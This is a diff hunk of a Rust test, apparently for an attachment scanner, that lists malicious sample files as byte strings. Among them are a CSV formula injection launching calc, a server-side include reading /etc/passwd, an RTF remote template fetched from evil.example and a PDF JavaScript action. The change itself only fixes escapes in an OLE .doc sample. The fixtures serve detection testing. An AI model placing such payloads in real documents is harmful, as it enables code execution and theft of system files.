@@ -331,7 +331,7 @@ fn attached_pages_scripts_and_programs() {
         ("x.ics", b"MZ\x90BEGIN:VCALENDAR"),
         ("x.vtt", b"WEBVTT\n\n<!--#include virtual=\"/etc/passwd\" -->"),
         ("x.csv", b"name,number\n=cmd|' /C calc'!A0,1\n"),
-        ("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x01\0O\0l\0e\01\00\0N\0a\0t\0i\0v\0e\0"),
+        ("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x01\0O\0l\0e\x001\x000\0N\0a\0t\0i\0v\0e\0"),
         ("x.rtf", b"{\\rtf1{\\*\\template http://evil.example/a.dotm}}"),
         ("x.txt", b"a\0<script>"),
         ("x.pdf", b"%PDF-1.7\n<</S/Rendition/JS(app.alert)>>"),
